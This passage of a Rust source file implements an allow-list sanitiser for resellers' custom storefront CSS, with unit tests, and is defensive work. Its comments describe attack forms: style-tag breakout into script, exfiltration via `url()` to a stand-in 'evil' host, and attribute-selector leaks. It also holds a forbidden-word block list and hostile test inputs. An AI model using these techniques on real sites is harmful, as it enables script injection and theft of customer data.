//! Resellers' custom CSS: parsed, filtered through an allow-list and written out again by us.
//!
//! Why: the seed stored a reseller's CSS and echoed it raw into a `<style>` element on every page of the
//! storefront. Anyone able to edit it could close the element (`</style><script>…`) and run script in every
//! customer's session, or stay inside CSS and still exfiltrate (`url(//evil/?…)`, attribute selectors that
//! leak input values) or execute (`expression()`, `behavior`, `-moz-binding`).
//!
//! So the input is never echoed, not even filtered in place. It is tokenised and parsed with servo's
//! `cssparser` (the same tokeniser rules as browsers, including escapes, comments and CDO/CDC), every piece is
//! checked against a small allow-list, and the output is a fresh canonical serialisation written here
//! (`sel{prop:value;}`). What is not understood is dropped: a rule with one bad selector, a declaration
//! with one bad token, any at-rule but a simple `@media`. Only two things reject the whole input, because
//! they are about cost rather than content: more than [`MAX_CSS_BYTES`] bytes or more than [`MAX_CSS_RULES`]
//! rules (plus [`CssError::Unsafe`], the fail-closed final check, which no input is known to reach).
//!
//! What the output can contain, by construction:
//! - selectors: type, `.class`, `#id`, the descendant combinator and six harmless pseudo-classes. Attribute
//!   selectors are refused (they can read attribute values out of the page, one request per guess), as is
//!   the child combinator: its `>` would be the only angle bracket in the output, and keeping both `<` and
//!   `>` out entirely means the CSS survives being HTML-escaped and no `-->` can ever form;
//! - declarations of allow-listed properties, whose values are idents, numbers (at most 3 decimals),
//!   dimensions with known units, percentages, hex colours, strings, commas, `+ - * /` and the functions
//!   `rgb rgba hsl hsla var calc min max clamp` (no `url()`, so nothing is ever fetched from anywhere);
//! - `@media` with `screen`/`print`/`(min-width|max-width: <length>)` joined by `and`, nested at most
//!   [`MAX_MEDIA_DEPTH`] deep.
//!
//! Strings are re-quoted with `"` and may not contain `<`, `>`, `@`, quotes or backslashes; characters
//! outside printable ASCII (and `&`) in strings and identifiers are written as `\hex ` escapes, so the only
//! `@` in the output is `@media`'s and the only backslashes start those escapes. As a last line of defence
//! every selector, declaration and the whole result are decoded and searched for [`FORBIDDEN`] words
//! (`url(`, `expression`, `javascript`, ...); the price is that an innocent `.binding` class is dropped too.
//! Sanitising is idempotent: `sanitize_css(sanitize_css(x)) == sanitize_css(x)`.

use cssparser::{
    AtRuleParser, CowRcStr, DeclarationParser, ParseError, Parser, ParserInput, ParserState, QualifiedRuleParser,
    RuleBodyItemParser, RuleBodyParser, StyleSheetParser, Token,
};

/// Largest accepted custom CSS, in bytes (20 KB): plenty for a theme, small enough to parse on every save.
pub const MAX_CSS_BYTES: usize = 20 * 1024;
/// Most rules (style rules and at-rules, at any depth, kept or dropped) in one custom stylesheet.
pub const MAX_CSS_RULES: usize = 500;
/// How deep `@media` may nest. Deeper blocks are dropped, which also bounds our recursion.
pub const MAX_MEDIA_DEPTH: usize = 3;
/// How deep functions and parentheses may nest in a value (`calc(min(1px, (2px + 3px)))` is 3). Bounds the
/// recursion: 20 KB of `calc(` must not overflow the stack.
const MAX_VALUE_DEPTH: usize = 8;
/// Largest magnitude of a number we write back. Keeps every number printable as plain digits with 3
/// decimals (no exponents, no `inf`), which is what makes re-sanitising stable.
const MAX_NUMBER: f64 = 1_000_000.0;

/// Why custom CSS was refused as a whole. Everything else is dropped piece by piece instead.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum CssError {
    #[error("Custom CSS can be at most 20 KB; this is {size} bytes")]
    TooLarge { size: usize },
    #[error("Custom CSS can be at most 20 KB; written out cleanly this comes to {size} bytes")]
    TooLargeOnceCleaned { size: usize },
    #[error("Custom CSS can have at most 500 rules")]
    TooManyRules,
    /// The final check found something the allow-list should have stopped. Never expected: it exists so
    /// that a bug in the filters fails closed instead of reaching a page.
    #[error("This custom CSS could not be made safe")]
    Unsafe,
}

/// Substrings that must never appear in the output, compared after decoding CSS escapes and lowercasing.
/// `<` and `>` cover `</style`, `<!--` and `-->`; the words cover the script-running and fetching CSS
/// features, however they were spelled in the input.
const FORBIDDEN: &[&str] =
    &["<", ">", "@import", "url(", "image-set(", "expression", "behavior", "binding", "javascript", "vbscript"];

/// The one error of our parsers: "not on the allow-list". The piece is dropped; no reason is kept.
#[derive(Debug, Clone, Copy)]
struct Disallowed;

type PResult<'i, T> = Result<T, ParseError<'i, Disallowed>>;

fn disallowed<'i>(input: &Parser<'i, '_>) -> ParseError<'i, Disallowed> {
    input.new_custom_error(Disallowed)
}

/// Sanitise a reseller's custom CSS: parse it, keep only allow-listed rules, selectors, properties and
/// values, and return our own serialisation of what is left (possibly empty).
///
/// Errors for input (or cleaned output: escaping can lengthen it) over [`MAX_CSS_BYTES`], for more than
/// [`MAX_CSS_RULES`] rules, and, fail-closed, if the final check finds a forbidden word.
pub fn sanitize_css(input: &str) -> Result<String, CssError> {
    if input.len() > MAX_CSS_BYTES {
        return Err(CssError::TooLarge { size: input.len() });
    }
    let mut parser_input = ParserInput::new(input);
    let mut parser = Parser::new(&mut parser_input);
    let mut budget = Budget::default();
    let rules = parse_rule_list(&mut parser, &mut budget, 0);
    if budget.exceeded {
        return Err(CssError::TooManyRules);
    }
    let css = rules.join("\n");
    // Escapes (`é` -> `\e9 `) and canonical spelling (`.5` -> `0.5`) can make the output longer than the
    // input; an output that would itself be refused would break idempotence (and the storage limit).
    if css.len() > MAX_CSS_BYTES {
        return Err(CssError::TooLargeOnceCleaned { size: css.len() });
    }
    if contains_forbidden(&css) {
        return Err(CssError::Unsafe);
    }
    Ok(css)
}

/// The rule count, shared by every nesting level.
#[derive(Default)]
struct Budget {
    rules_seen: usize,
    exceeded: bool,
}

/// Parses a list of rules (the stylesheet, or an `@media` body) into serialised kept rules.
fn parse_rule_list(input: &mut Parser<'_, '_>, budget: &mut Budget, depth: usize) -> Vec<String> {
    let mut rule_parser = RuleListParser { budget, depth };
    let mut rules = Vec::new();
    let mut items = StyleSheetParser::new(input, &mut rule_parser);
    while let Some(item) = items.next() {
        let budget = &mut *items.parser.budget;
        budget.rules_seen += 1;
        if budget.rules_seen > MAX_CSS_RULES {
            budget.exceeded = true;
        }
        if budget.exceeded {
            break;
        }
        // Err: the rule was not allowed and cssparser has already skipped it. Ok(None): allowed but empty.
        if let Ok(Some(rule)) = item {
            rules.push(rule);
        }
    }
    rules
}

struct RuleListParser<'b> {
    budget: &'b mut Budget,
    depth: usize,
}

impl<'i> QualifiedRuleParser<'i> for RuleListParser<'_> {
    /// The serialised selector list.
    type Prelude = String;
    type QualifiedRule = Option<String>;
    type Error = Disallowed;

    fn parse_prelude<'t>(&mut self, input: &mut Parser<'i, 't>) -> PResult<'i, String> {
        parse_selector_list(input)
    }

    fn parse_block<'t>(
        &mut self,
        selectors: String,
        _start: &ParserState,
        input: &mut Parser<'i, 't>,
    ) -> PResult<'i, Option<String>> {
        let declarations = parse_declaration_list(input);
        if declarations.is_empty() {
            // An empty rule does nothing; dropping it keeps the output (and its idempotence) simple.
            return Ok(None);
        }
        Ok(Some(format!("{selectors}{{{}}}", declarations.concat())))
    }
}

impl<'i> AtRuleParser<'i> for RuleListParser<'_> {
    /// The serialised media query list.
    type Prelude = String;
    type AtRule = Option<String>;
    type Error = Disallowed;

    fn parse_prelude<'t>(&mut self, name: CowRcStr<'i>, input: &mut Parser<'i, 't>) -> PResult<'i, String> {
        // `@import`, `@font-face`, `@namespace`, `@charset`, `@supports`, `@keyframes`, ...: all dropped.
        if !name.eq_ignore_ascii_case("media") || self.depth >= MAX_MEDIA_DEPTH {
            return Err(disallowed(input));
        }
        parse_media_query_list(input)
    }

    // `rule_without_block` keeps its default (`Err`): `@media screen;` is dropped.

    fn parse_block<'t>(
        &mut self,
        query: String,
        _start: &ParserState,
        input: &mut Parser<'i, 't>,
    ) -> PResult<'i, Option<String>> {
        let rules = parse_rule_list(input, self.budget, self.depth + 1);
        if rules.is_empty() {
            return Ok(None);
        }
        Ok(Some(format!("@media {query}{{{}}}", rules.join("\n"))))
    }
}

// ---- selectors -------------------------------------------------------------------------------------------

const PSEUDO_CLASSES: &[&str] = &["hover", "focus", "active", "visited", "first-child", "last-child"];

/// `compound ( ws compound )* ( , ... )*` where a compound is an optional type selector followed by
/// `.class`, `#id` and allowed `:pseudo-class`es. Serialised as compounds joined by one space, selectors by
/// `,`.
fn parse_selector_list<'i>(input: &mut Parser<'i, '_>) -> PResult<'i, String> {
    let mut selectors: Vec<String> = Vec::new();
    let mut compounds: Vec<String> = Vec::new();
    let mut compound = String::new();
    // Whitespace matters here (it is the descendant combinator), so comments are skipped but whitespace is
    // not: `.a/**/.b` is one compound, as in browsers.
    while let Ok(token) = input.next_including_whitespace() {
        match token.clone() {
            Token::WhiteSpace(_) => end_compound(&mut compound, &mut compounds),
            Token::Comma => {
                end_compound(&mut compound, &mut compounds);
                end_selector(&mut compounds, &mut selectors).ok_or_else(|| disallowed(input))?;
            }
            // A type selector can only start a compound (`.a/**/div` is invalid, as in browsers).
            Token::Ident(name) if compound.is_empty() => {
                let name = serialize_ident(&name).ok_or_else(|| disallowed(input))?;
                compound.push_str(&name.to_ascii_lowercase());
            }
            Token::IDHash(name) => {
                let name = serialize_ident(&name).ok_or_else(|| disallowed(input))?;
                compound.push('#');
                compound.push_str(&name);
            }
            Token::Delim('.') => {
                let name = match input.next_including_whitespace() {
                    Ok(Token::Ident(name)) => serialize_ident(name),
                    _ => None,
                };
                compound.push('.');
                compound.push_str(&name.ok_or_else(|| disallowed(input))?);
            }
            Token::Colon => {
                let pseudo = match input.next_including_whitespace() {
                    Ok(Token::Ident(name)) => {
                        PSEUDO_CLASSES.iter().find(|allowed| name.eq_ignore_ascii_case(allowed)).copied()
                    }
                    // `::before`, `:not(`, `:has(`, ...
                    _ => None,
                };
                compound.push(':');
                compound.push_str(pseudo.ok_or_else(|| disallowed(input))?);
            }
            // Attribute selectors, `*`, `>`, `+`, `~`, `|`, `&`, strings, numbers, blocks, ...
            _ => return Err(disallowed(input)),
        }
    }
    end_compound(&mut compound, &mut compounds);
    end_selector(&mut compounds, &mut selectors).ok_or_else(|| disallowed(input))?;
    let list = selectors.join(",");
    if contains_forbidden(&list) {
        return Err(disallowed(input));
    }
    Ok(list)
}

fn end_compound(compound: &mut String, compounds: &mut Vec<String>) {
    if !compound.is_empty() {
        compounds.push(std::mem::take(compound));
    }
}

/// `None` for an empty selector (`,a`, `a,,b`, `a,`).
fn end_selector(compounds: &mut Vec<String>, selectors: &mut Vec<String>) -> Option<()> {
    if compounds.is_empty() {
        return None;
    }
    selectors.push(compounds.join(" "));
    compounds.clear();
    Some(())
}

// ---- @media ----------------------------------------------------------------------------------------------

/// `query ( , query )*` with `query = (screen | print | feature) ( and feature )*`.
fn parse_media_query_list<'i>(input: &mut Parser<'i, '_>) -> PResult<'i, String> {
    let mut queries: Vec<String> = Vec::new();
    let mut parts: Vec<String> = Vec::new();
    let mut after_and = false;
    while let Ok(token) = input.next() {
        match token.clone() {
            Token::Ident(name) if parts.is_empty() && !after_and => {
                let media_type = ["screen", "print"].into_iter().find(|t| name.eq_ignore_ascii_case(t));
                parts.push(media_type.ok_or_else(|| disallowed(input))?.to_owned());
            }
            Token::Ident(name) if !parts.is_empty() && !after_and && name.eq_ignore_ascii_case("and") => {
                after_and = true;
            }
            Token::ParenthesisBlock if parts.is_empty() || after_and => {
                parts.push(input.parse_nested_block(parse_media_feature)?);
                after_and = false;
            }
            Token::Comma if !parts.is_empty() && !after_and => queries.push(std::mem::take(&mut parts).join(" and ")),
            _ => return Err(disallowed(input)),
        }
    }
    if parts.is_empty() || after_and {
        return Err(disallowed(input));
    }
    queries.push(parts.join(" and "));
    Ok(queries.join(","))
}

/// `(min-width: <length>)` or `(max-width: <length>)`, length in px, em or rem.
fn parse_media_feature<'i>(input: &mut Parser<'i, '_>) -> PResult<'i, String> {
    let name = {
        let ident = input.expect_ident()?;
        ["min-width", "max-width"].into_iter().find(|n| ident.eq_ignore_ascii_case(n))
    };
    let name = name.ok_or_else(|| disallowed(input))?;
    input.expect_colon()?;
    let length = match input.next()?.clone() {
        Token::Dimension { value, unit, .. } if value >= 0.0 => {
            let unit = ["px", "em", "rem"].into_iter().find(|u| unit.eq_ignore_ascii_case(u));
            unit.and_then(|unit| Some(format!("{}{unit}", serialize_number(f64::from(value))?)))
        }
        _ => None,
    };
    let length = length.ok_or_else(|| disallowed(input))?;
    input.expect_exhausted()?;
    Ok(format!("({name}:{length})"))
}

// ---- declarations ----------------------------------------------------------------------------------------

/// Standard properties we keep. Anything that can fetch (`background`, `background-image`, `border-image`,
/// `list-style`, `cursor`, `content`, `src`) or run code (`behavior`, `-moz-binding`) is absent.
const PROPERTIES: &[&str] = &[
    "color",
    "background-color",
    "border",
    "border-top",
    "border-right",
    "border-bottom",
    "border-left",
    "border-color",
    "border-style",
    "border-width",
    "border-top-color",
    "border-right-color",
    "border-bottom-color",
    "border-left-color",
    "border-top-style",
    "border-right-style",
    "border-bottom-style",
    "border-left-style",
    "border-top-width",
    "border-right-width",
    "border-bottom-width",
    "border-left-width",
    "border-radius",
    "border-top-left-radius",
    "border-top-right-radius",
    "border-bottom-right-radius",
    "border-bottom-left-radius",
    "margin",
    "margin-top",
    "margin-right",
    "margin-bottom",
    "margin-left",
    "padding",
    "padding-top",
    "padding-right",
    "padding-bottom",
    "padding-left",
    "font-family",
    "font-size",
    "font-weight",
    "font-style",
    "line-height",
    "letter-spacing",
    "text-align",
    "text-decoration",
    "text-transform",
    "box-shadow",
    "opacity",
    "display",
    "width",
    "max-width",
    "height",
    "max-height",
    "gap",
];

/// The only custom properties a reseller may set: the theme's own namespace.
const CUSTOM_PROPERTY_PREFIX: &str = "--brand-";

const DISPLAY_VALUES: &[&str] =
    &["none", "block", "inline", "inline-block", "flex", "inline-flex", "grid", "inline-grid"];

const FUNCTIONS: &[&str] = &["rgb", "rgba", "hsl", "hsla", "var", "calc", "min", "max", "clamp"];

const UNITS: &[&str] = &[
    "px", "em", "rem", "ex", "ch", "lh", "rlh", "vw", "vh", "vmin", "vmax", "svw", "svh", "lvw", "lvh", "dvw", "dvh",
    "cqw", "cqh", "pt", "pc", "cm", "mm", "in", "deg", "rad", "grad", "turn", "s", "ms", "fr",
];

/// Declarations inside a style rule. Nested rules and at-rules are not parsed (`parse_qualified` is false,
/// the at-rule methods keep their rejecting defaults), so they are skipped.
struct DeclarationListParser;

impl<'i> DeclarationParser<'i> for DeclarationListParser {
    /// A serialised `prop:value;`.
    type Declaration = String;
    type Error = Disallowed;

    fn parse_value<'t>(
        &mut self,
        name: CowRcStr<'i>,
        input: &mut Parser<'i, 't>,
        _start: &ParserState,
    ) -> PResult<'i, String> {
        parse_declaration(&name, input)
    }
}

impl<'i> AtRuleParser<'i> for DeclarationListParser {
    type Prelude = ();
    type AtRule = String;
    type Error = Disallowed;
}

impl<'i> QualifiedRuleParser<'i> for DeclarationListParser {
    type Prelude = ();
    type QualifiedRule = String;
    type Error = Disallowed;
}

impl<'i> RuleBodyItemParser<'i, String, Disallowed> for DeclarationListParser {
    fn parse_declarations(&self) -> bool {
        true
    }

    fn parse_qualified(&self) -> bool {
        false
    }
}

fn parse_declaration_list(input: &mut Parser<'_, '_>) -> Vec<String> {
    let mut parser = DeclarationListParser;
    RuleBodyParser::new(input, &mut parser).filter_map(Result::ok).collect()
}

/// The property's canonical name, if it is allowed: allow-listed standard properties (case-insensitive,
/// written lowercase) and `--brand-[A-Za-z0-9_-]+` (custom properties are case-sensitive, kept as written).
fn property_name(name: &str) -> Option<String> {
    if let Some(rest) = name.strip_prefix(CUSTOM_PROPERTY_PREFIX) {
        let valid = !rest.is_empty() && rest.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_');
        return valid.then(|| name.to_owned());
    }
    PROPERTIES.iter().find(|p| name.eq_ignore_ascii_case(p)).map(|p| (*p).to_owned())
}

fn parse_declaration<'i>(name: &str, input: &mut Parser<'i, '_>) -> PResult<'i, String> {
    let property = property_name(name).ok_or_else(|| disallowed(input))?;
    let (value, important) = if property == "display" { parse_display_value(input)? } else { parse_value(input)? };
    let important = if important { " !important" } else { "" };
    let declaration = format!("{property}:{value}{important};");
    if contains_forbidden(&declaration) {
        return Err(disallowed(input));
    }
    Ok(declaration)
}

/// `!important` at the end of a value; the parser has just returned the `!`.
fn parse_important_tail<'i>(input: &mut Parser<'i, '_>) -> PResult<'i, ()> {
    input.expect_ident_matching("important")?;
    input.expect_exhausted()?;
    Ok(())
}

/// `display` takes exactly one of [`DISPLAY_VALUES`] (no `contents`, `table`, ... and no `var()`).
fn parse_display_value<'i>(input: &mut Parser<'i, '_>) -> PResult<'i, (String, bool)> {
    let value = {
        let ident = input.expect_ident()?;
        DISPLAY_VALUES.iter().find(|v| ident.eq_ignore_ascii_case(v)).copied()
    };
    let value = value.ok_or_else(|| disallowed(input))?;
    let important = match input.next() {
        Err(_) => false,
        Ok(Token::Delim('!')) => {
            parse_important_tail(input)?;
            true
        }
        Ok(_) => return Err(disallowed(input)),
    };
    Ok((value.to_owned(), important))
}

/// One component of a value, serialised. Commas are kept apart because they are written without spaces.
enum Piece {
    Comma,
    Word(String),
}

/// Pieces joined canonically: one space between words, none around commas. Always separating words also
/// means two tokens can never fuse into a different one (`/` then `*` can never become a comment).
fn join_pieces(pieces: &[Piece]) -> String {
    let mut out = String::new();
    let mut after_word = false;
    for piece in pieces {
        match piece {
            Piece::Comma => {
                out.push(',');
                after_word = false;
            }
            Piece::Word(word) => {
                if after_word {
                    out.push(' ');
                }
                out.push_str(word);
                after_word = true;
            }
        }
    }
    out
}

/// A whole declaration value, with its `!important` flag.
fn parse_value<'i>(input: &mut Parser<'i, '_>) -> PResult<'i, (String, bool)> {
    let mut pieces = Vec::new();
    let mut important = false;
    // `next` skips whitespace and comments: our own spacing replaces the input's.
    while let Ok(token) = input.next() {
        let token = token.clone();
        if token == Token::Delim('!') {
            parse_important_tail(input)?;
            important = true;
            break;
        }
        pieces.push(parse_component(token, input, 0)?);
    }
    if pieces.is_empty() {
        return Err(disallowed(input));
    }
    Ok((join_pieces(&pieces), important))
}

/// The arguments of a function or the inside of parentheses (`depth` > 0).
fn parse_arguments<'i>(input: &mut Parser<'i, '_>, depth: usize) -> PResult<'i, String> {
    let mut pieces = Vec::new();
    while let Ok(token) = input.next() {
        let token = token.clone();
        pieces.push(parse_component(token, input, depth)?);
    }
    Ok(join_pieces(&pieces))
}

fn parse_component<'i>(token: Token<'i>, input: &mut Parser<'i, '_>, depth: usize) -> PResult<'i, Piece> {
    let word = match token {
        Token::Comma => return Ok(Piece::Comma),
        Token::Ident(name) => serialize_ident(&name),
        Token::Number { value, .. } => serialize_number(f64::from(value)),
        // `unit_value` is the percentage divided by 100.
        Token::Percentage { unit_value, .. } => serialize_number(f64::from(unit_value) * 100.0).map(|n| n + "%"),
        Token::Dimension { value, unit, .. } => {
            let unit = UNITS.iter().find(|u| unit.eq_ignore_ascii_case(u));
            unit.and_then(|unit| Some(format!("{}{unit}", serialize_number(f64::from(value))?)))
        }
        Token::Hash(digits) | Token::IDHash(digits) => serialize_hex_colour(&digits),
        Token::QuotedString(text) => serialize_string(&text),
        Token::Delim(c @ ('+' | '-' | '*' | '/')) => Some(c.to_string()),
        Token::Function(name) if depth < MAX_VALUE_DEPTH => {
            match FUNCTIONS.iter().find(|f| name.eq_ignore_ascii_case(f)) {
                Some(function) => {
                    let arguments = input.parse_nested_block(|input| parse_arguments(input, depth + 1))?;
                    Some(format!("{function}({arguments})"))
                }
                None => None,
            }
        }
        // Grouping parentheses, only inside functions (`calc((1px + 2px) * 2)`).
        Token::ParenthesisBlock if depth > 0 && depth < MAX_VALUE_DEPTH => {
            let inner = input.parse_nested_block(|input| parse_arguments(input, depth + 1))?;
            Some(format!("({inner})"))
        }
        // `url(` tokens, bad strings and urls, `{}`/`[]` blocks, `!` inside functions, other delimiters
        // (`<`, `>`, `@`, `\`, ...), CDO/CDC, colons, semicolons.
        _ => None,
    };
    word.map(Piece::Word).ok_or_else(|| disallowed(input))
}

// ---- serialisation ---------------------------------------------------------------------------------------

/// Append `c` as a CSS hex escape. The trailing space is always written: it ends the escape, so a
/// following hex digit or space can never be read as part of it.
fn push_escape(out: &mut String, c: char) {
    out.push_str(&format!("\\{:x} ", u32::from(c)));
}

/// Non-ASCII characters that may appear (escaped) in identifiers and strings: anything but control
/// characters (C0, DEL and C1).
fn is_escapable(c: char) -> bool {
    !c.is_ascii() && !c.is_control()
}

/// An identifier (as decoded by the tokeniser) written back so that it tokenises to the same identifier:
/// ASCII letters, digits, `-`, `_` as they are, other non-ASCII as escapes. `None` for anything else (an
/// identifier holding `<`, `(`, `:`, ... can only come from escapes, and is refused rather than
/// re-escaped), and for identifiers that would not re-tokenise as one (leading digit, `-digit`, lone `-`).
fn serialize_ident(name: &str) -> Option<String> {
    let mut chars = name.chars();
    let starts_an_ident = |c: char| c == '_' || c.is_ascii_alphabetic() || is_escapable(c);
    let valid_start = match chars.next()? {
        '-' => chars.next().is_some_and(|c| c == '-' || starts_an_ident(c)),
        c => starts_an_ident(c),
    };
    if !valid_start {
        return None;
    }
    let mut out = String::with_capacity(name.len());
    for c in name.chars() {
        if c.is_ascii_alphanumeric() || c == '-' || c == '_' {
            out.push(c);
        } else if is_escapable(c) {
            push_escape(&mut out, c);
        } else {
            return None;
        }
    }
    Some(out)
}

/// A string re-quoted with `"`. Refused if it holds `<`, `>`, `@`, a backslash, a quote or a control character
/// (after the tokeniser decoded its escapes); `&` and non-ASCII are escaped.
fn serialize_string(text: &str) -> Option<String> {
    let mut out = String::with_capacity(text.len() + 2);
    out.push('"');
    for c in text.chars() {
        match c {
            // `@` too: then the only `@` anywhere in the output is the one of `@media`.
            '<' | '>' | '@' | '\\' | '"' | '\'' => return None,
            c if c.is_control() => return None,
            // Escaped so the output reads the same if a template ever HTML-escapes it.
            '&' => push_escape(&mut out, c),
            c if c.is_ascii() => out.push(c),
            c => push_escape(&mut out, c),
        }
    }
    out.push('"');
    Some(out)
}

/// `#rgb`, `#rgba`, `#rrggbb` or `#rrggbbaa`, lowercased.
fn serialize_hex_colour(digits: &str) -> Option<String> {
    let valid = matches!(digits.len(), 3 | 4 | 6 | 8) && digits.bytes().all(|b| b.is_ascii_hexdigit());
    valid.then(|| format!("#{}", digits.to_ascii_lowercase()))
}

/// A number rounded to 3 decimals and written as plain digits (`-0.5`, `12`, `0.125`): no exponent, no
/// `+`, no trailing zeros. `None` for non-finite values and magnitudes over [`MAX_NUMBER`]. Rounding to a
/// fixed precision well above `f32`'s noise is what makes re-sanitising the output return it unchanged.
fn serialize_number(value: f64) -> Option<String> {
    if !value.is_finite() || value.abs() > MAX_NUMBER {
        return None;
    }
    // |value| <= 1e6, so the product fits an i64 exactly.
    let thousandths = (value * 1000.0).round() as i64;
    let sign = if thousandths < 0 { "-" } else { "" };
    let magnitude = thousandths.unsigned_abs();
    let (whole, fraction) = (magnitude / 1000, magnitude % 1000);
    if fraction == 0 {
        return Some(format!("{sign}{whole}"));
    }
    let fraction = format!("{fraction:03}");
    Some(format!("{sign}{whole}.{}", fraction.trim_end_matches('0')))
}

// ---- the final check -------------------------------------------------------------------------------------

/// Decode CSS escapes the way the tokeniser does: `\` + 1-6 hex digits (+ one optional whitespace) is that
/// code point (U+FFFD for zero, surrogates and out of range), `\` + newline is removed (a line
/// continuation inside strings), `\` + anything else is that character.
fn decode_css_escapes(css: &str) -> String {
    let mut out = String::with_capacity(css.len());
    let mut chars = css.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.peek().copied() {
            None => out.push('\u{fffd}'),
            Some('\n' | '\u{c}') => {
                chars.next();
            }
            Some('\r') => {
                chars.next();
                chars.next_if_eq(&'\n');
            }
            Some(h) if h.is_ascii_hexdigit() => {
                let mut code: u32 = 0;
                for _ in 0..6 {
                    match chars.peek().and_then(|d| d.to_digit(16)) {
                        Some(digit) => {
                            code = code * 16 + digit;
                            chars.next();
                        }
                        None => break,
                    }
                }
                if chars.next_if(|w| matches!(w, ' ' | '\t' | '\n' | '\u{c}')).is_none()
                    && chars.next_if_eq(&'\r').is_some()
                {
                    chars.next_if_eq(&'\n');
                }
                out.push(char::from_u32(code).filter(|&c| c != '\0').unwrap_or('\u{fffd}'));
            }
            Some(other) => {
                out.push(other);
                chars.next();
            }
        }
    }
    out
}

/// True if `css`, once escapes are decoded and case folded, contains any [`FORBIDDEN`] substring, or if it
/// contains a backslash-newline line continuation (never produced by our serialiser).
fn contains_forbidden(css: &str) -> bool {
    let decoded = decode_css_escapes(css).to_lowercase();
    FORBIDDEN.iter().any(|word| decoded.contains(word))
        || ["\\\n", "\\\r", "\\\u{c}"].iter().any(|trick| css.contains(trick))
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn clean(input: &str) -> String {
        sanitize_css(input).unwrap_or_else(|e| panic!("{input:?} was refused: {e}"))
    }

    // ---- good CSS survives -------------------------------------------------------------------------------

    #[test]
    fn allowed_css_is_kept_in_canonical_form() {
        for (input, expected) in [
            (
                ".btn{background-color:var(--brand-primary);border-radius:8px}",
                ".btn{background-color:var(--brand-primary);border-radius:8px;}",
            ),
            ("a:hover, .nav .item:first-child { color: #FFF; }", "a:hover,.nav .item:first-child{color:#fff;}"),
            ("DIV#Main .Title:FOCUS { FONT-WEIGHT: 700 }", "div#Main .Title:focus{font-weight:700;}"),
            (
                "@media screen and (min-width: 640px) { .a { padding: 4px 8px } }",
                "@media screen and (min-width:640px){.a{padding:4px 8px;}}",
            ),
            (
                "@media print, (max-width: 40.5em) { @media screen { p { margin: 0 } } }",
                "@media print,(max-width:40.5em){@media screen{p{margin:0;}}}",
            ),
            (".a { font-family: \"Open Sans\", Arial, sans-serif }", ".a{font-family:\"Open Sans\",Arial,sans-serif;}"),
            (".a{font-family:'Helvetica Neue'}", ".a{font-family:\"Helvetica Neue\";}"),
            (
                ".card{box-shadow:0 1px 2px rgba(0,0,0,.05), 0 0 0 1px rgb(0 0 0 / 10%)}",
                ".card{box-shadow:0 1px 2px rgba(0,0,0,0.05),0 0 0 1px rgb(0 0 0 / 10%);}",
            ),
            (".a{width:calc(100% - 2rem)}", ".a{width:calc(100% - 2rem);}"),
            (
                ".a{width:clamp(10px, calc((100% - 4px) / 2), 40rem)}",
                ".a{width:clamp(10px,calc((100% - 4px) / 2),40rem);}",
            ),
            (".a{color:red!important}", ".a{color:red !important;}"),
            (".a{color:red ! IMPORTANT}", ".a{color:red !important;}"),
            (
                ".a{display:flex}.b{display:INLINE-BLOCK !important}",
                ".a{display:flex;}\n.b{display:inline-block !important;}",
            ),
            (".a{--brand-accent: #ABCDEF}", ".a{--brand-accent:#abcdef;}"),
            (".a{color:var(--brand-accent, #123)}", ".a{color:var(--brand-accent,#123);}"),
            (".a{margin:-4px +2px .5em 1E1px}", ".a{margin:-4px 2px 0.5em 10px;}"),
            (".a{opacity:0.123456;line-height:1.50}", ".a{opacity:0.123;line-height:1.5;}"),
            (".a{font-family:\"Café\"}", ".a{font-family:\"Caf\\e9 \";}"),
            (".caf\\E9 {color:red}", ".caf\\e9 {color:red;}"),
            (".a{font-family:\"Q&A\"}", ".a{font-family:\"Q\\26 A\";}"),
            (
                ".a{text-decoration:underline dotted;text-transform:uppercase;letter-spacing:0.02em}",
                ".a{text-decoration:underline dotted;text-transform:uppercase;letter-spacing:0.02em;}",
            ),
            (
                "h1,h2{border-bottom:1px solid hsl(240 5% 84%);gap:1rem}",
                "h1,h2{border-bottom:1px solid hsl(240 5% 84%);gap:1rem;}",
            ),
            ("/* theme */ .a /* x */ { color /* y */ : red /* z */ }", ".a{color:red;}"),
            ("<!-- .a{color:red} -->", ".a{color:red;}"),
            ("", ""),
            ("   \n\t ", ""),
        ] {
            assert_eq!(clean(input), expected, "{input}");
        }
    }

    #[test]
    fn disallowed_pieces_are_dropped_and_the_rest_kept() {
        for (input, expected) in [
            (".a{color:red;behavior:url(x.htc);padding:1px}", ".a{color:red;padding:1px;}"),
            (".a{color:red;background:url(x)}", ".a{color:red;}"),
            (".a{color:red}@import url(x);.b{color:blue}", ".a{color:red;}\n.b{color:blue;}"),
            ("a[href]{color:red}.b{color:blue}", ".b{color:blue;}"),
            (".a > .b{color:red}.c{color:blue}", ".c{color:blue;}"),
            (".a, .b:has(.c){color:red}", ""),
            (".a{display:table}", ""),
            (".a{--other:1;--brand-x:1}", ".a{--brand-x:1;}"),
            (".a{color:red;.b{color:blue}}", ".a{color:red;}"),
            (".a{color:red;@media screen{color:blue}padding:0}", ".a{color:red;padding:0;}"),
            ("@media screen{.a{color:red}.b{background:url(x)}}", "@media screen{.a{color:red;}}"),
            ("@media screen{.b{background:url(x)}}", ""),
            ("@supports (display:grid){.a{color:red}}", ""),
            (".javascript{color:red}", ""),
            (".a{font-family:expression}", ""),
        ] {
            assert_eq!(clean(input), expected, "{input}");
        }
    }

    #[test]
    fn media_nesting_is_bounded() {
        let nest = |depth: usize| format!("{}.a{{color:red}}{}", "@media screen{".repeat(depth), "}".repeat(depth));
        assert_eq!(clean(&nest(MAX_MEDIA_DEPTH)), nest(MAX_MEDIA_DEPTH).replace("red", "red;"));
        assert_eq!(clean(&nest(MAX_MEDIA_DEPTH + 1)), "");
        assert_eq!(clean(&nest(1000)), "");
    }

    #[test]
    fn deep_nesting_does_not_overflow_the_stack() {
        for open in ["calc(", "(", "[", "{", "rgb(", "@media screen{", ".a{"] {
            let css = format!(".a{{width:{}", open.repeat(MAX_CSS_BYTES / open.len() - 10));
            assert!(css.len() <= MAX_CSS_BYTES);
            assert_eq!(clean(&css), "", "{open}");
        }
        let allowed = format!(".a{{width:{}1px{}}}", "calc(".repeat(MAX_VALUE_DEPTH), ")".repeat(MAX_VALUE_DEPTH));
        assert_ne!(clean(&allowed), "");
    }

    #[test]
